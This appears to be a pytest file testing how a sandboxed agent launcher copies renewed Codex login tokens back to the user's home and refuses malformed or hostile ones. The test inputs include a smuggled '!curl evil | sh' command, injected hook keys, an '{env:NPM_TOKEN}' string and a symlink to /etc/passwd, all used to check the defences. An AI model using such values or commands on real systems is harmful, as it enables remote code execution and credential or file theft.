"""Logins that an agent renews in its sandbox, during its run, at its end and after a kill."""

import json
import os
import subprocess
import sys
import time
from pathlib import Path, PurePosixPath

import pytest

from aileron_core.launch.agent_folders import AgentFiles
from aileron_core.launch.agent_logins import PRIVATE_HOME, RenewedLogins
from aileron_core.launch.launch_dir import remove_stale
from aileron_core.launch.plan import AgentFolder

FOLDER = AgentFolder(path=PurePosixPath(".codex"), credentials=("auth.json",))
BEFORE = '{"tokens": {"access": "old", "expires": 1}, "kind": "chatgpt"}'
AFTER = BEFORE.replace("old", "new")


class Launch:
    """A contained launch without an agent: the person's home, and the folder of the launch."""

    def __init__(self, folder: Path, name: str = "launch") -> None:
        self.home, self.folder = folder / "person", folder / "launched" / name
        self.theirs = self.home / ".codex/auth.json"
        self.own = self.folder / PRIVATE_HOME / ".codex/auth.json"
        self.said: list[str] = []
        if not self.home.exists():
            self.theirs.parent.mkdir(parents=True)
            self.theirs.write_text(BEFORE)

    def begin(self) -> RenewedLogins:
        """Copy the login in, as a launch does."""
        (self.folder / PRIVATE_HOME).mkdir(parents=True)
        AgentFiles.find(self.home, [FOLDER], "Codex").copy_to(self.folder / PRIVATE_HOME)
        return RenewedLogins(self.folder, self.home, [FOLDER], self.said.append)


@pytest.fixture
def launch(tmp_path: Path) -> Launch:
    return Launch(tmp_path)


def test_refreshed_credentials_come_back_while_the_agent_runs(launch: Launch) -> None:
    """Not only at the end: the machine may lose its power before."""
    with launch.begin() as logins:
        logins.follow()
        launch.own.write_text(AFTER)
        while launch.theirs.read_text() != AFTER:
            time.sleep(0.05)  # another thread; a file tells nobody
        launch.own.write_text(AFTER.replace("new", "newest"))
    assert launch.theirs.read_text() == AFTER.replace("new", "newest")
    assert launch.theirs.stat().st_mode & 0o777 == 0o600
    assert launch.said == []


@pytest.mark.parametrize(
    "after",
    [
        '{"tokens": {"access": "new", "expires": 1}, "kind": "chatgpt", "hooks": "evil"}',
        '{"tokens": {"access": "new", "expires": "1"}, "kind": "chatgpt"}',
        '{"tokens": {"access": "!curl evil | sh", "expires": 1}, "kind": "chatgpt"}',
        '{"tokens": {"access": "{env:NPM_TOKEN}", "expires": 1}, "kind": "chatgpt"}',
        '["new"]',
        "not json",
        json.dumps({"tokens": {"access": "x" * 2_000_000, "expires": 1}, "kind": "chatgpt"}),
        "[" * 100_000,
    ],
)
def test_anything_else_stays_in_the_sandbox(launch: Launch, after: str) -> None:
    """A key more, another type, no JSON, too much: the person's file stays as it is, and that is said."""
    with launch.begin():
        launch.own.write_text(after)
        (launch.own.parent / "config.toml").write_text("notify = ['evil']")
    assert launch.theirs.read_text() == BEFORE
    assert [each.name for each in launch.theirs.parent.iterdir()] == ["auth.json"]
    if len(after) < 1_000_000:
        (only,) = launch.said
        assert "~/.codex/auth.json has another form now, so it was not copied back" in only


def test_neither_a_link_nor_a_pipe_nor_a_folder_comes_back(launch: Launch, tmp_path: Path) -> None:
    """A link would carry another file out; a pipe would hold the launcher for ever, a folder end it."""
    (tmp_path / "other").write_text(AFTER)
    with launch.begin() as logins:
        launch.own.unlink()
        launch.own.symlink_to(tmp_path / "other")
        logins.exchange()
        launch.own.unlink()
        os.mkfifo(launch.own)
        logins.exchange()
        launch.own.unlink()
        launch.own.mkdir()
        logins.exchange()
        assert launch.theirs.read_text() == BEFORE
        launch.own.rmdir()
        launch.theirs.write_text(BEFORE.replace("old", "outside"))
        launch.own.write_text(BEFORE.replace("old", "inside"))
    assert "outside" in launch.theirs.read_text()


def test_nothing_comes_back_through_a_link(launch: Launch, tmp_path: Path) -> None:
    """Neither from the agent's side, by a folder that is a link now, nor to the person's."""
    other = tmp_path / "other"
    other.mkdir()
    (other / "auth.json").write_text(AFTER)
    with launch.begin() as logins:
        launch.own.parent.rename(tmp_path / "kept")
        launch.own.parent.symlink_to(other)
        logins.exchange()
        assert launch.theirs.read_text() == BEFORE
        launch.own.parent.unlink()
        (tmp_path / "kept").rename(launch.own.parent)
        launch.own.write_text(AFTER)
        (other / "auth.json").write_text(BEFORE)
        launch.theirs.parent.rename(tmp_path / "theirs")
        launch.theirs.parent.symlink_to(other)
    assert (other / "auth.json").read_text() == BEFORE
    assert (tmp_path / "theirs" / "auth.json").read_text() == BEFORE


def test_of_two_launches_both_have_what_one_of_them_renewed(tmp_path: Path) -> None:
    """A service accepts only the newest: the other agent would be signed out."""
    one, two = Launch(tmp_path, "one"), Launch(tmp_path, "two")
    with one.begin() as of_one, two.begin() as of_two:
        one.own.write_text(AFTER)
        of_one.exchange()
        of_two.exchange()
        assert two.own.read_text() == AFTER
        two.own.write_text(BEFORE.replace("old", "newest"))
        of_two.exchange()
        of_one.exchange()
        assert one.own.read_text() == one.theirs.read_text() == BEFORE.replace("old", "newest")


KILLED = """
import os, signal, sys
sys.path.insert(0, {root!r})
from pathlib import Path
from tests.core.launch.test_agent_logins import AFTER, Launch
launch = Launch(Path({folder!r}), f"{{os.getpid()}}-ab")
logins = launch.begin()
{then}
os.kill(os.getpid(), signal.SIGKILL)
"""
ROOT = str(Path(__file__).resolve().parents[3])


@pytest.mark.parametrize(
    ("then", "expected"),
    [
        ("launch.own.write_text(AFTER)", AFTER),
        ("launch.own.write_text(AFTER); logins.exchange()", AFTER),
        ("launch.own.write_text('{}'); logins.exchange(); launch.own.write_text(AFTER)", AFTER),
        ("launch.own.write_text(AFTER); launch.theirs.write_text('{\"mine\": 1}')", '{"mine": 1}'),
        ("launch.own.write_text('{\"hooks\": 1}')", BEFORE),
        ("launch.own.unlink(); launch.own.symlink_to('/etc/passwd')", BEFORE),
    ],
)
def test_a_login_outlives_a_killed_launcher(
    launch: Launch, tmp_path: Path, then: str, expected: str
) -> None:
    """The next launch or the console brings it out, by the record beside the agent's home, and removes the rest."""
    text = KILLED.format(root=ROOT, folder=str(tmp_path), then=then)
    subprocess.run([sys.executable, "-c", text], check=False, timeout=60)
    (left,) = launch.folder.parent.iterdir()
    assert not any(b"old" in each.read_bytes() for each in left.glob("*.json"))
    assert remove_stale([left.parent]) == []
    assert launch.theirs.read_text() == expected
    assert list(left.parent.iterdir()) == []
